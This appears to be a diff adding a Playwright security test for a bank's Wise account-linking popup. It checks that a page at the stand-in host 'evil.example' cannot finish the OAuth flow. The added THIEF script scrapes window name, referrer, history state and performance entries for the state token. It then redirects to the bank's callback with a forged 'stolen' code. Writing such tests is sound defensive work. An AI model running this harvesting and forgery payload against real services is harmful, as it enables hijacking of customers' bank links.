@@ -95,3 +95,41 @@ test('P20 the page of another origin that opened the bank’s page answers for t
   await page.evaluate((forged) => Reflect.get(window, 'bank').postMessage(forged, '*'), target.forged);
   await target.isUnmovedBy(WISE);
 });
+
+const EVIL = 'https://evil.example';
+
+/** A page of another site, which sends the window on to the bank with a code of its own under everything that it could read. */
+const THIEF = `<!doctype html><title>Thief</title><script>
+  const texts = [name, document.referrer, location.href, String(history.state), ...performance.getEntries().map((entry) => entry.name)];
+  const words = texts.flatMap((text) => [text, ...text.split(/[^\\w-]+/), text.replace(/^\\w+-/, '')]).filter((word) => word.length > 20);
+  const found = [...new Set(words)];
+  const next = Number(location.hash.slice(1));
+  document.title = 'Thief with ' + found.length + ' names, at ' + next;
+  if (found[next]) location.assign('${BANK}/wise-callback.html?' + new URLSearchParams({ code: 'stolen', state: found[next] }));
+</script>`;
+
+test('a page of another site in the Wise window finishes with its own code, by all that it can read there: nothing is sent', async ({ page, context }) => {
+  const sent: string[] = [];
+  context.on('request', (request) => {
+    if (request.url() === `${BANK}/api/wise/exchange`) sent.push(request.postData() ?? '');
+  });
+  await context.route(`${EVIL}/**`, (route) => route.fulfill({ contentType: 'text/html', body: THIEF }));
+  await logInAtBank(new PlaywrightCustomer(page), 'popup.html');
+  const { atWise } = await Target.on(page);
+  const { page: wise } = atWise;
+  const request = wise.url();
+  for (let next = 0; next === 0 || (await wise.title()).startsWith('Thief with ') === false; next += 1) {
+    // A link on a page that the customer has come to from Wise.
+    await wise.evaluate((url) => location.assign(url), `${EVIL}/${next}#${next}`);
+    await wise.waitForURL(/wise-callback\.html$|evil\.example/);
+    await expect(wise).toHaveTitle(/Thief with \d+ names, at|Please go back/);
+  }
+  await new PlaywrightCustomer(page).reads('Continue in the Wise window.');
+  expect([sent, await exchangesAtWise()]).toEqual([[], 0]);
+  await wise.evaluate((url) => location.assign(url), request);
+  await giveAccess(atWise);
+  await new PlaywrightCustomer(page).reads(LINKED);
+  expect(sent.filter((body) => body.includes('stolen'))).toEqual([]);
+  expect(await exchangesAtWise()).toBe(1);
+  await forgetLinks(page);
+});
